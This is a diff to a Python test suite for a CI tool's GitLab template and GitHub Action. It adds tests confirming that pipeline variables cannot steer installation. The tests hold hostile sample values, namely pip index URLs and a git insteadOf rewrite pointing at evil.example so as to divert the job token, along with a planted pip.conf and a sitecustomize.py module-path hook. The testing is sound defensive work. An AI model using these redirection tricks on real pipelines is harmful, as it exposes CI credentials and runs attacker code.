@@ -50,7 +50,7 @@ def run_step(name: str, work: Path, inputs: dict[str, str], extra: dict[str, str
     summary.touch()
     env |= {"RUNNER_TEMP": str(temp), "GITHUB_OUTPUT": str(output),
             "GITHUB_STEP_SUMMARY": str(summary), "GITHUB_RUN_ID": "4711",
-            "GITHUB_RUN_ATTEMPT": "2",
+            "GITHUB_RUN_ATTEMPT": "2", "GITHUB_SERVER_URL": "https://github.com",
             "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"} | extra
     # GitHub runs `shell: bash` as bash --noprofile --norc -eo pipefail
     done = subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c",
@@ -151,7 +151,7 @@ def test_the_pre_commit_hooks_run_as_pre_commit_runs_them(work: Path) -> None:
 
 SPEC, GITLAB = yaml.safe_load_all((ROOT / "templates" / "specgate.gitlab-ci.yml").read_text())
 PINNED = "0123456789abcdef0123456789abcdef01234567"  # the commit the include names
-INPUTS = {"project": "acme/specgate", "ref": PINNED}
+INPUTS = {"host": "gitlab.example", "project": "acme/specgate", "ref": PINNED}
 
 
 def interpolated(text: str) -> str:
@@ -326,10 +326,11 @@ def test_the_gitlab_template_installs_this_repository_at_the_included_commit() -
     assert "default" not in SPEC["spec"]["inputs"]["ref"]  # an include must name it
     assert not re.match(SPEC["spec"]["inputs"]["ref"]["regex"], "main")
     install = [c for c in GITLAB[".specgate"]["script"] if "pip install" in c]
-    assert len(install) == 1 and install[0].startswith("python3 -m pip install --quiet ")
-    argument = install[0].removeprefix("python3 -m pip install --quiet ")
-    env = {"PATH": os.environ["PATH"], "CI_JOB_TOKEN": "TOKEN",
-           "CI_SERVER_HOST": "gitlab.example", "SPECGATE_INSTALL": "specgate",
+    prefix = "PIP_CONFIG_FILE=/dev/null python3 -m pip install --quiet "
+    assert len(install) == 1 and install[0].startswith(prefix)
+    argument = install[0].removeprefix(prefix)
+    env = {"PATH": os.environ["PATH"], "CI_JOB_TOKEN": "TOKEN",  # a pipeline's variable:
+           "CI_SERVER_HOST": "evil.example", "SPECGATE_INSTALL": "specgate",
            "SPECGATE_REF": "main"}
     words = subprocess.run(["bash", "-c", f"printf '%s\\n' {interpolated(argument)}"],
                            env=env, capture_output=True, text=True, check=True).stdout
@@ -446,3 +447,109 @@ def test_the_action_posts_or_updates_one_pull_request_comment(work: Path, tmp_pa
     # engine diff --base (issue 38, section 1) for the one Policy the changes belong to
     assert body.count("### What the policy change moves") == 1
     assert f"\n    $ engine diff --base {base} -- specs/example/policy.yaml\n" in body
+
+
+# issue 38 review: a variable of the job can steer pip (an index, links, a config file), the
+# git it fetches with (a URL rewrite sending the job token elsewhere), and Python (a module
+# path that runs code at start-up); the host the token goes to is the include's, not
+# CI_SERVER_HOST, which a pipeline variable can set
+HOSTILE = {"CI_SERVER_HOST": "evil.example", "PIP_INDEX_URL": "https://evil.example/simple",
+           "PIP_EXTRA_INDEX_URL": "https://evil.example/extra", "PIP_FIND_LINKS": "/evil",
+           "PIP_NO_INDEX": "1", "GIT_CONFIG_COUNT": "1",
+           "GIT_CONFIG_KEY_0": "url.https://evil.example/.insteadOf",
+           "GIT_CONFIG_VALUE_0": "https://gitlab.example/"}
+
+
+def hostile(tmp_path: Path) -> tuple[dict[str, str], Path, Path]:
+    """HOSTILE, a pip.conf of the attacker's, and a PYTHONPATH whose sitecustomize (run by
+    any Python that has the folder on its path) writes the returned marker; and a folder
+    whose python3 records its arguments and environment instead of installing anything."""
+    evil = tmp_path / "evil"
+    evil.mkdir()
+    marker = tmp_path / "python-path-ran"
+    (evil / "sitecustomize.py").write_text(f"open({str(marker)!r}, 'w').close()\n")
+    (evil / "pip.conf").write_text("[global]\nindex-url = https://evil.example/simple\n")
+    shim = tmp_path / "shim"
+    shim.mkdir()
+    (shim / "python3").write_text(f"""#!/bin/sh
+printf '%s\\n' "$@" > {shim}/argv
+env > {shim}/env
+""")
+    (shim / "python3").chmod(0o755)
+    return (HOSTILE | {"PIP_CONFIG_FILE": str(evil / "pip.conf"), "PYTHONPATH": str(evil)},
+            shim, marker)
+
+
+def test_the_gitlab_template_installs_and_runs_with_no_variable_steering_it(
+        work: Path, tmp_path: Path) -> None:
+    variables, shim, marker = hostile(tmp_path)
+    job = GITLAB[".specgate"]
+    env = {k: v for k, v in os.environ.items() if not k.startswith("SPECGATE_")}
+    env |= job["variables"] | {"CI_PIPELINE_ID": "815", "CI_JOB_TOKEN": "TOKEN"} | variables
+    env["PATH"] = f"{shim}{os.pathsep}{Path(sys.executable).parent}{os.pathsep}" \
+                  f"{os.environ['PATH']}"
+    env["SPECGATE_SPECS"] = "specs/example"
+    script = "\n".join(interpolated(c) for c in job["script"])  # the install line too
+    done = subprocess.run(["bash", "-eo", "pipefail", "-c", script], cwd=work, env=env,
+                          capture_output=True, text=True, timeout=600)
+    assert done.returncode == 0, done.stdout + done.stderr
+    assert (shim / "argv").read_text().splitlines() == [
+        "-m", "pip", "install", "--quiet",
+        f"git+https://gitlab-ci-token:TOKEN@gitlab.example/acme/specgate.git@{PINNED}"]
+    seen = dict(line.split("=", 1) for line in (shim / "env").read_text().splitlines()
+                if "=" in line and not line.startswith((" ", "\t")))
+    assert seen["PIP_CONFIG_FILE"] == "/dev/null"  # no pip.conf is read, not even the site's
+    assert not [k for k in seen if k.startswith(("PIP_", "GIT_", "PYTHON"))
+                and k != "PIP_CONFIG_FILE"]
+    assert (work / "gate-out" / "scorecard.json").is_file()  # engine ran, and
+    assert not marker.exists()  # without the variable's module path
+
+
+def test_the_action_installs_and_runs_with_no_variable_steering_it(work: Path,
+                                                                  tmp_path: Path) -> None:
+    variables, shim, marker = hostile(tmp_path)
+    path = f"{shim}{os.pathsep}{os.environ['PATH']}"
+    code, _, _ = run_step("Install specgate", work, {"install": str(work)},
+                          variables | {"PATH": path})
+    assert code == 0
+    assert (shim / "argv").read_text().splitlines() == [
+        "-m", "pip", "install", "--quiet", "--", str(work)]
+    seen = dict(line.split("=", 1) for line in (shim / "env").read_text().splitlines()
+                if "=" in line and not line.startswith((" ", "\t")))
+    assert seen["PIP_CONFIG_FILE"] == "/dev/null"
+    assert not [k for k in seen if k.startswith(("PIP_", "GIT_", "PYTHON"))
+                and k != "PIP_CONFIG_FILE"]
+    code, outputs, _ = run_step("Gate", work, {"specs": "specs/example"}, variables)
+    assert outputs["exit-code"] == "0" and not marker.exists()
+
+
+def test_a_long_comment_is_cut_in_the_summary_never_in_the_diff(work: Path,
+                                                                 tmp_path: Path) -> None:
+    """A comment holds 65,536 characters: past 60,000 it is cut, at its end, which is the
+    run's summary; the spec changes and engine diff come first, and the job summary holds
+    them whole."""
+    base = pull_request(work)
+    code, outputs, _ = run_step("Gate", work, {"specs": "specs/example"}, {})
+    assert outputs["exit-code"] == "0"
+    with (work / "gate-out" / "scorecard.md").open("a") as card:  # a summary of 70,000
+        card.write("| a row of a long summary |\n" * 2500)
+    gh = fake_gh(tmp_path / "gh", "")
+    event = {"SPECGATE_SIGNED": "false", "SPECGATE_EXIT": "0", "SPECGATE_BASE": base,
+             "SPECGATE_PULL": "12", "SPECGATE_REPOSITORY": "acme/agent", "GH_TOKEN": "t",
+             "PATH": f"{gh}{os.pathsep}{Path(sys.executable).parent}{os.pathsep}"
+                     f"{os.environ['PATH']}"}
+    code, _, summary = run_step("Comment on the pull request", work,
+                                {"specs": "specs/example", "comment": "true"}, event)
+    assert code == 0
+    body = (gh / "body").read_text()
+    assert 60000 < len(body) < 65536
+    diff = f"    $ engine diff --base {base} -- specs/example/policy.yaml\n"
+    assert diff in body
+    assert body.index(diff) < body.index("## evaluation support-agent v1.0.0")
+    assert body.endswith("\n\n(cut at 60,000 characters: the job summary of "
+                         "https://github.com/acme/agent/actions/runs/4711 holds the spec "
+                         "changes, engine diff and the run summary whole, and each "
+                         "evaluation's scorecard.md)\n")
+    assert f"## Spec changes against the base ({base})" in summary  # the job summary's
+    assert diff in summary
+    assert summary.count("### What the policy change moves") == 1
